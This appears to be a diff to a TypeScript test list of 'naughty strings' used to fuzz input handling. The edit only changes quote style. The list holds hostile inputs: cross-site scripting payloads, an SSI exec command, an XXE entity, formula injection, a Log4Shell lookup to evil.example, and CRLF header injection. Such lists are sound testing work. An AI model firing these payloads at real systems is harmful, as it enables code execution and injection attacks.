@@ -47,7 +47,7 @@ export const naughtyStrings: readonly string[] = [
   "<script>alert(1)</script>",
   '"><img src=x onerror=alert(1)>',
   "javascript:alert(1)",
-  "<!--#exec cmd=\"id\"--> <?php 1 ?>",
+  '<!--#exec cmd="id"--> <?php 1 ?>',
   '<!DOCTYPE a [<!ENTITY b SYSTEM "x">]><a>&b;</a>',
   "=1+1 @SUM(1) +1 -1",
   "${jndi:ldap://evil.example/a}",
@@ -60,7 +60,7 @@ export const naughtyStrings: readonly string[] = [
   "con.txt NUL aux LPT1",
   ". ..",
   "-rf --help",
-  "a/b\\c:d*e?f\"g<h>i|j",
+  'a/b\\c:d*e?f"g<h>i|j',
   // headers and lines
   "a\r\nSet-Cookie: x=1",
   "a\r\n\r\nHTTP/1.1 200 OK",
